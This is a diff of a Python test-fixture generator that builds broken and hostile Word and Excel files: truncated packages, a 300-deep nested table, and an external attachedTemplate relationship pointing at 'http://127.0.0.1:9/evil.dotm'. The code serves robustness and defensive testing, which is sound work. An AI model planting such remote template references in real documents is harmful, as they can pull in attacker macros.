@@ -1,4 +1,5 @@
 """Files that mean harm or are broken: more than a hundred, made when they are asked for."""
+# ruff: noqa: E501 - the samples are data
 
 from __future__ import annotations
 
@@ -175,10 +176,10 @@ def _words() -> dict[str, Write]:
     cut = _bytes
     nested = "<w:tbl><w:tr><w:tc>" * 300 + "<w:p><w:r><w:t>Gap: deep</w:t></w:r></w:p>" + "</w:tc></w:tr></w:tbl>" * 300
     relation = (
-        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
-        'Target="http://127.0.0.1:9/evil.dotm" TargetMode="External"/></Relationships>'
-    ).encode()
+        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+        b'Target="http://127.0.0.1:9/evil.dotm" TargetMode="External"/></Relationships>'
+    )
     found: dict[str, Write] = {
         "cut in half.docx": cut(word[: len(word) // 2]),
         "cut at the end.docx": cut(word[:-30]),
@@ -223,7 +224,7 @@ def _words() -> dict[str, Write]:
 
 def _books() -> dict[str, Write]:
     book = _book()
-    row = "<row r=\"{0}\"><c r=\"A{0}\" t=\"inlineStr\"><is><t>late</t></is></c></row>"
+    row = '<row r="{0}"><c r="A{0}" t="inlineStr"><is><t>late</t></is></c></row>'
     return {
         "cut in half.xlsx": _bytes(book[: len(book) // 2]),
         "no package.xlsx": _bytes(b"a,b,c"),
